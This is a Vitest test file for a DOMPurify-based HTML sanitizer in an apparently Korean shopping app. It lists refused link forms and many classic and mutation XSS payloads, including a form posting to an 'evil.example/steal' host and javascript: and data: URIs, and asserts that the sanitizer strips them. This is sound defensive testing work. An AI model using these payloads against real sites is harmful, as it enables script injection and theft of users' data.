// @vitest-environment jsdom
import { act, render, screen } from '@testing-library/react';
import { createElement } from 'react';
import { describe, expect, it } from 'vitest';
import { allowedHref } from './purify-sanitizer';
import { plainTextHtml, sanitizeHtml, useSanitizedHtml } from './sanitize-html';

/**
 * A payload list (issue 11 §4): what survives DOMPurify and our link hook. The app's origin is
 * jsdom's; the own hosts are VITE_OWN_HOSTS' default (shop.market.kr, store.market.kr, market.kr).
 */

const origin = window.location.origin;

/** links whose href must go, whatever else survives */
const REFUSED_LINKS = [
  '/\\evil.example/x',
  '\\\\evil.example',
  '\\evil.example',
  '//evil.example/x',
  ' /\\evil.example',
  '&#47;\\evil.example',
  '&#x2F;&#x2F;evil.example',
  '/&#92;evil.example',
  '&#9;//evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#x09;script:alert(1)',
  ' JAVASCRIPT:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'https://evil.example/',
  'http://evilmarket.kr/',
  'https://market.kr.evil.example/',
  'https://user:pass@market.kr/',
  'mailto:a@evil.example',
];

describe('links (issue 11 §4)', () => {
  it.each(REFUSED_LINKS)('drops the href of %j', async (href) => {
    const out = await sanitizeHtml(`<a href="${href.replace(/"/g, '&quot;')}">x</a>`);
    expect(out).toBe('<a>x</a>');
  });

  it('keeps same-origin paths as they are, without a target', async () => {
    expect(await sanitizeHtml('<a href="/notice/3" target="_top" rel="opener">공지</a>')).toBe('<a href="/notice/3">공지</a>');
    expect(await sanitizeHtml('<a href="notice/3">공지</a>')).toBe('<a href="notice/3">공지</a>');
    expect(await sanitizeHtml('<a href="?tab=2#top">위로</a>')).toBe('<a href="?tab=2#top">위로</a>');
    // an encoded backslash is only a character of the path: it stays on this origin
    expect(await sanitizeHtml('<a href="/%5Cevil.example">x</a>')).toBe('<a href="/%5Cevil.example">x</a>');
    expect(await sanitizeHtml(`<a href="${origin}/best">베스트</a>`)).toBe(`<a href="${origin}/best">베스트</a>`);
  });

  it('keeps http(s) links to the product’s own hosts without a target: a tap goes through the external-link flow', async () => {
    expect(await sanitizeHtml('<a href="https://market.kr/notice/1" target="_blank">공지</a>')).toBe('<a href="https://market.kr/notice/1">공지</a>');
    expect(await sanitizeHtml('<a href="http://m.shop.market.kr/cart">장바구니</a>')).toBe('<a href="http://m.shop.market.kr/cart">장바구니</a>');
  });

  it('allowedHref decides on the decoded value', () => {
    const policy = { appOrigin: 'https://m.market.kr', ownHosts: ['market.kr'] };
    expect(allowedHref('/\\evil.example', policy)).toBeNull();
    expect(allowedHref('\\\\evil.example', policy)).toBeNull();
    expect(allowedHref('/deal/1', policy)).toEqual({ href: '/deal/1', external: false });
    expect(allowedHref('https://m.market.kr/deal/1', policy)).toEqual({ href: 'https://m.market.kr/deal/1', external: false });
    expect(allowedHref('https://store.market.kr/', policy)).toEqual({ href: 'https://store.market.kr/', external: true });
    expect(allowedHref('https://evilmarket.kr/', policy)).toBeNull();
  });

  it('allowedHref keeps links to the shop site (VITE_SHOP_URL), whatever its host', () => {
    const policy = { appOrigin: 'https://m.market.kr', ownHosts: [], leaveUrls: ['https://mall.example.co.kr/shop'] };
    expect(allowedHref('https://mall.example.co.kr/shop/product/detail.html?product_no=1', policy)).toEqual({
      href: 'https://mall.example.co.kr/shop/product/detail.html?product_no=1',
      external: true,
    });
    expect(allowedHref('https://mall.example.co.kr/elsewhere', policy)).toBeNull();
  });
});

/** classic XSS vectors: [input, what survives] */
const VECTORS: Array<[string, string]> = [
  ['<p>주문</p><script>alert(1)</script>', '<p>주문</p>'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>안내', '안내'],
  ['안내<img src=x onerror=alert(1)>', '안내'],
  ['<IMG SRC=x ONERROR=alert(1)>', ''],
  ['<svg onload=alert(1)><circle/></svg>별', '별'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ''],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>안내', '안내'],
  ['<iframe src="javascript:alert(1)"></iframe>', ''],
  ['<span style="width: expression(alert(1))">별</span>', '<span>별</span>'],
  ['<style>*{background:url(javascript:alert(1))}</style>별', '별'],
  ['<span onclick="alert(1)" onmouseover=alert(1)>별</span>', '<span>별</span>'],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', '<a>x</a>'],
  ['<form action="https://evil.example/steal"><input name="p"><button>보내기</button></form>', '보내기'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">안내', '안내'],
  ['<base href="https://evil.example/"><a href="/x">x</a>', '<a href="/x">x</a>'],
  ['<object data="javascript:alert(1)"></object><embed src="x.swf">', ''],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p></p>'],
  ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', ''],
  ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<p></p>"&gt;'],
  ['<a href="/ok"><b>굵게</b></a><!-- <img src=x onerror=alert(1)> -->', '<a href="/ok"><b>굵게</b></a>'],
  ['<div><h1>제목</h1><table><tr><td>칸</td></tr></table></div>', '제목칸'],
  ['<p>첫 줄<br>둘째 줄</p><p><strong>주의</strong> <em>꼭</em> <u>확인</u> <i>해</i> 주세요</p>', '<p>첫 줄<br>둘째 줄</p><p><strong>주의</strong> <em>꼭</em> <u>확인</u> <i>해</i> 주세요</p>'],
];

describe('XSS vectors', () => {
  it.each(VECTORS)('%j becomes %j', async (input, expected) => {
    expect(await sanitizeHtml(input)).toBe(expected);
  });

  it('whatever survives holds no script, handler, style or foreign link', async () => {
    const host = document.createElement('div');
    for (const [input] of VECTORS) host.innerHTML += await sanitizeHtml(input, 'rich');
    for (const element of host.querySelectorAll('*')) {
      expect(['SCRIPT', 'STYLE', 'IFRAME', 'SVG', 'MATH', 'FORM', 'META', 'BASE', 'OBJECT', 'EMBED']).not.toContain(element.tagName);
      for (const name of element.getAttributeNames()) expect(['href', 'src', 'alt', 'target', 'rel']).toContain(name);
      const href = element.getAttribute('href');
      if (href !== null) expect(href.startsWith('/') && !href.startsWith('//')).toBe(true);
    }
  });
});

describe('notice bodies (rich)', () => {
  it('keep lists, headings and http(s) images; drop data: and protocol-relative images', async () => {
    expect(await sanitizeHtml('<h2>안내</h2><ul><li>하나</li></ul><img src="/img/a.png" alt="배너">', 'rich')).toBe(
      `<h2>안내</h2><ul><li>하나</li></ul><img src="${origin}/img/a.png" alt="배너">`,
    );
    expect(await sanitizeHtml('<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="//evil.example/t.gif">끝', 'rich')).toBe('끝');
    // the dialog profile has no images or lists
    expect(await sanitizeHtml('<ul><li>하나</li></ul><img src="/a.png">')).toBe('하나');
  });
});

describe('useSanitizedHtml', () => {
  function Message({ html }: { html: string }) {
    const clean = useSanitizedHtml(html);
    return createElement('div', { 'data-testid': 'message', 'data-loaded': String(clean !== null), dangerouslySetInnerHTML: { __html: clean ?? '' } });
  }

  it('renders the sanitised HTML once DOMPurify is there', async () => {
    render(createElement(Message, { html: '<b>안내</b><img src=x onerror=alert(1)>' }));
    await act(async () => {
      await sanitizeHtml('');
    });
    expect(screen.getByTestId('message').innerHTML).toBe('<b>안내</b>');
  });

  it('plain text when DOMPurify cannot load', () => {
    expect(plainTextHtml('<b>안내</b><img src=x onerror=alert(1)> & <script>x</script>')).toBe('안내 &#38; x');
  });
});
